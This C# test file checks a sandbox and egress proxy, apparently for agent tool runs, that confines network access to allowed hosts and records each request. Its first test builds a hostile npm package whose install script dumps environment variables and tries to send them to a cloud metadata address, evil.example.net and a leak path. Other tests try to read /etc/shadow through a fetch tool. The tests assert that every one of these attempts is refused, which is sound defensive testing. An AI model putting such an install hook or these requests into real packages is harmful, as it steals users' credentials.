using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Godwit.Cli;
using Godwit.Durable;
using Godwit.Durable.Journal;
using Godwit.Egress;
using Godwit.Identity;
using Godwit.Sandbox;
using Godwit.Tools;
using Godwit.Workspaces;
using Microsoft.AspNetCore.Http;

namespace Godwit.Tests.Egress;

/// <summary>Real programs in a real sandbox, behind the proxy.</summary>
public sealed class RunNetworkTests : EgressFixture
{
    private const string Api = "api.example.org";

    [Fact]
    public async Task Npm_InstallsFromARegistry_AndItsScriptGetsNothing()
    {
        // The script of a hostile package looks for secrets, and asks for three ways out.
        const string Script = """
            const {execSync} = require('child_process'), fs = require('fs');
            const ways = ['http://169.254.169.254/', 'https://evil.example.net/', `https://registry.example.org:${process.env.PORT}/-/leak?` + 'x'.repeat(20)];
            let told = JSON.stringify(process.env);
            for (const way of ways) {
              try { told += execSync(`git -c http.sslVerify=false ls-remote ${way} 2>&1 || true`).toString(); } catch (error) { told += error; }
            }
            fs.writeFileSync(process.env.INIT_CWD + '/told.txt', told);
            """;
        var tarball = Tarball(
            ("package/package.json", """{"name":"hostile","version":"1.0.0","scripts":{"install":"node told.js"}}"""), ("package/told.js", Script));
        Answer = async context =>
        {
            context.Response.ContentType = "application/json";
            if (context.Request.Path == "/hostile")
            {
                await context.Response.WriteAsync(JsonSerializer.Serialize(new
                {
                    name = "hostile",
                    dist_tags = new { latest = "1.0.0" },
                    versions = new Dictionary<string, object>
                    {
                        ["1.0.0"] = new
                        {
                            name = "hostile", version = "1.0.0", hasInstallScript = true, scripts = new { install = "node told.js" },
                            dist = new
                            {
                                tarball = $"https://registry.example.org:{TlsPort}/hostile/-/hostile-1.0.0.tgz",
                                integrity = $"sha512-{Convert.ToBase64String(SHA512.HashData(tarball))}",
                            },
                        },
                    },
                }).Replace("dist_tags", "dist-tags", StringComparison.Ordinal));
            }
            else if (context.Request.Path == "/hostile/-/hostile-1.0.0.tgz")
            {
                context.Response.ContentType = "application/octet-stream";
                await context.Response.Body.WriteAsync(tarball);
            }
            else
            {
                context.Response.StatusCode = 404;
            }
        };
        System.Environment.SetEnvironmentVariable("GODWIT_TEST_CREDENTIAL", "s3cret");
        var (result, tree) = await RunAsync(
            "[{host: 'registry.example.org:TLS', for: setup, paths: [/hostile]}]",
            $"PORT={TlsPort} npm install --registry https://registry.example.org:{TlsPort}/ hostile@1.0.0 2>&1");
        Assert.True(result.ExitCode == 0, $"{result.Output}{result.Error}{string.Join('\n', Requests)}");
        Assert.True(File.Exists(Path.Combine(tree, "node_modules", "hostile", "package.json")));
        var told = await File.ReadAllTextAsync(Path.Combine(tree, "told.txt"));
        Assert.DoesNotContain("s3cret", told, StringComparison.Ordinal);
        Assert.DoesNotContain(EgressDoor.TokenVariable, told, StringComparison.Ordinal);
        Assert.DoesNotContain("HOSTNAME\":\"", told, StringComparison.Ordinal);

        // Each request stands in the journal, those that went nowhere with their reason.
        Assert.Contains(
            Requests, request => request is { Refused: null, Method: "GET" } && request.Url.EndsWith("-1.0.0.tgz", StringComparison.Ordinal));
        Assert.Contains(Requests, request => request.Url.Contains("169.254.169.254", StringComparison.Ordinal) && request.Refused is not null);
        Assert.Contains(Requests, request => request.Url.Contains("evil.example.net", StringComparison.Ordinal) && request.Refused is not null);
        Assert.Contains(Requests, request => request.Url.Contains("/-/leak", StringComparison.Ordinal) && request.Refused is not null);
        var usage = Assert.Single(Usages);
        Assert.Equal("setup", usage.Client);
        Assert.True(usage.Hosts.Single(host => host is { Host: "registry.example.org", Rule: not null }).Down > tarball.Length);
    }

    [Fact]
    public async Task Command_HasNoOtherWayOut_ThanTheProxy()
    {
        var (result, _) = await RunAsync(
            "[{host: 'api.example.org:TLS', for: setup}]",
            """
            unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY
            git ls-remote https://api.example.org/ 2>&1; git ls-remote http://1.1.1.1/ 2>&1
            cat /proc/net/route /proc/net/dev
            """);
        Assert.Contains("Could not resolve host", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("eth", result.Output, StringComparison.Ordinal);
        Assert.Empty(Requests);
    }

    [Fact]
    public async Task Failure_SaysWhatTheNetworkRefused()
    {
        var (result, _) = await RunAsync("[{host: 'api.example.org:TLS', for: setup}]", "git ls-remote https://elsewhere.example.org/x");
        Assert.NotEqual(0, result.ExitCode);
        Assert.Contains("godwit refused CONNECT elsewhere.example.org:443: the goal names no rule", result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RuleForSetup_IsNotForAgents()
    {
        var (result, _) = await RunAsync(
            "[{host: 'api.example.org:TLS', for: setup}]", "env; git ls-remote https://api.example.org/ 2>&1", NetworkUse.Agents);
        Assert.DoesNotContain("PROXY", result.Output, StringComparison.OrdinalIgnoreCase);
        Assert.Empty(Requests);
    }

    [Fact]
    public async Task Budget_OfARunThatIsTakenUpAgain_GoesOn()
    {
        Answer = context => context.Request.Body.CopyToAsync(Stream.Null);
        var line = $"git ls-remote https://{Api}:{TlsPort}/{new string('x', 300)} 2>&1";
        const string Network = "[{host: 'api.example.org:TLS', for: setup, upload: 1.4 kB}]";
        await RunAsync(Network, line);
        Assert.All(Requests, request => Assert.Null(request.Refused));
        await RunAsync(Network, line);
        await RunAsync(Network, line);
        Assert.Contains(Requests, request => request.Refused?.Contains("may send 1400", StringComparison.Ordinal) == true);
    }

    /// <summary>Of two rules for a host each has what it was used for, and a command that was cut short what it said of itself.</summary>
    [Fact]
    public async Task Budget_OfARunThatIsTakenUpAgain_IsEachRulesOwn()
    {
        const string Network =
            "[{host: 'api.example.org:TLS', for: setup, paths: [/small], upload: 1 kB}, " +
            "{host: 'api.example.org:TLS', for: setup, paths: [/large], upload: 9 kB}]";
        var (small, large) = (Rules(Network)[0].ToString(), Rules(Network)[1].ToString());
        await WithAsync(Network, async (_, run) =>
        {
            // One command has ended, another of the same name was cut short.
            await run.NoteAsync(NetworkRequest.Key, new NetworkRequest("setup", "cut", "GET", $"https://{Api}/small", 700, small, null));
            await run.NoteAsync(NetworkRequest.Key, new NetworkRequest("setup", "whole", "GET", $"https://{Api}/large", 50, large, null));
            await run.NoteAsync(
                NetworkUsage.Key, new NetworkUsage("setup", "whole", [new HostUsage(Api, large, 1, 0, 10, 2000), new HostUsage(Api, null, 0, 3, 0, 0)]));
        });
        Answer = context => context.Request.Body.CopyToAsync(Stream.Null);
        await RunAsync(Network, $"git ls-remote https://{Api}:{TlsPort}/small/{new string('x', 100)}; git ls-remote https://{Api}:{TlsPort}/large/x");
        var asked = Requests.Where(request => request.Url.Contains($":{TlsPort}/", StringComparison.Ordinal)).ToList();
        Assert.Contains("has sent 700 bytes", RefusalOf("/small/"), StringComparison.Ordinal);
        Assert.Null(RefusalOf("/large/"));

        string? RefusalOf(string path) => asked.First(request => request.Url.Contains(path, StringComparison.Ordinal)).Refused;
    }

    [Fact]
    public async Task FetchTool_SaysWhoseWordsTheyAre_AndWhatIsRefused()
    {
        await WithAsync("[{host: 'api.example.org:TLS', for: agents, paths: [/v1/]}]", async (network, _) =>
        {
            var tool = new FetchTool(network);
            Assert.Contains("GET, HEAD api.example.org", tool.Spec.Description, StringComparison.Ordinal);
            Answer = context => context.Response.WriteAsync(new string('x', 30_000));
            var said = await FetchAsync($"https://{Api}:{TlsPort}/v1/a");
            Assert.StartsWith("200 \n(from api.example.org:)\nxxx", said, StringComparison.Ordinal);
            Assert.EndsWith("10000 more characters", said, StringComparison.Ordinal);
            Assert.Contains("allow /v1/", await FetchAsync($"https://{Api}:{TlsPort}/v2"), StringComparison.Ordinal);
            Assert.Contains("no rule for evil.example.net", await FetchAsync("https://evil.example.net/"), StringComparison.Ordinal);
            Assert.Contains("no address that can be read", await FetchAsync("file:///etc/shadow"), StringComparison.Ordinal);
            Answer = context =>
            {
                context.Abort();
                return Task.CompletedTask;
            };
            Assert.StartsWith("api.example.org doesn't answer: ", await FetchAsync($"https://{Api}:{TlsPort}/v1/b"), StringComparison.Ordinal);

            async Task<string> FetchAsync(string url)
            {
                try
                {
                    var tree = new AgentTree("agent-1", "", "", "", new RunRepository(""), -1);
                    return (await tool.RunAsync(
                        new ToolContext(tree, null!), ToolArguments.Parse(JsonSerializer.Serialize(new { url })), CancellationToken.None)).Content;
                }
                catch (ToolException refused)
                {
                    return refused.Message;
                }
            }
        });
        Assert.All(Requests, request => Assert.Equal("agent-1", request.Client));
        Assert.Equal(2, Requests.Count(request => request.Rule is not null));
    }

    /// <summary>Runs a line in a run of one folder, taken up anew each time.</summary>
    private async Task<(SandboxResult Result, string Tree)> RunAsync(string network, string line, NetworkUse use = NetworkUse.Setup)
    {
        using var sandbox = new SandboxRunner(SandboxKind.Bubblewrap, Path.Combine(Folder.FullName, "assets"), TimeProvider.System);
        var tree = Directory.CreateDirectory(Path.Combine(Folder.FullName, "tree")).FullName;
        FileSystem.OwnAll(tree, sandbox.OwnerOfFiles);
        var command = new SandboxCommand { Shell = line, Tree = tree, Timeout = TimeSpan.FromSeconds(60) };
        SandboxResult? result = null;
        await WithAsync(network, async (net, _) => result = await net.RunAsync(sandbox, command, use, "setup", CancellationToken.None));
        return (result!, tree);
    }

    /// <summary>Works with the network of a run of one folder, taken up anew each time; what the journal says of it is told afterwards.</summary>
    private async Task WithAsync(string network, Func<RunNetwork, DurableRun, Task> work)
    {
        var folder = new RunFolder(Path.Combine(Folder.FullName, "run"));
        Directory.CreateDirectory(folder.Path);
        using var signer = RunSigner.Of(folder);
        var playbook = new ShipOrders();
        var catalogue = new PlaybookCatalogue(playbook);
        await using var run = File.Exists(folder.Journal)
            ? DurableRun.Open(folder, signer, catalogue)
            : await DurableRun.CreateAsync(folder, signer, catalogue, playbook, [], 1);
        await using var doors = new SandboxDoors();
        using var net = new RunNetwork(new GoalNetwork { Rules = Rules(network) }, Owner, doors, folder.Path, TimeProvider.System, Upstream);
        net.TakeUp(run);
        await work(net, run);
        Requests.Clear();
        Usages.Clear();
        foreach (var entry in run.Journal.Reader.OfProcess(0))
        {
            if (entry.Key == NetworkRequest.Key)
            {
                Requests.Enqueue(Canonical.Deserialize<NetworkRequest>(entry.Data.Span));
            }
            else if (entry.Key == NetworkUsage.Key)
            {
                Usages.Enqueue(Canonical.Deserialize<NetworkUsage>(entry.Data.Span));
            }
        }
    }

    private static byte[] Tarball(params (string Path, string Content)[] files)
    {
        using var all = new MemoryStream();
        using (var zip = new GZipStream(all, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(zip, TarEntryFormat.Ustar))
        {
            foreach (var (path, content) in files)
            {
                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, path)
                {
                    DataStream = new MemoryStream(Encoding.UTF8.GetBytes(content)),
                    Mode = (UnixFileMode)0b110_100_100,
                });
            }
        }

        return all.ToArray();
    }
}
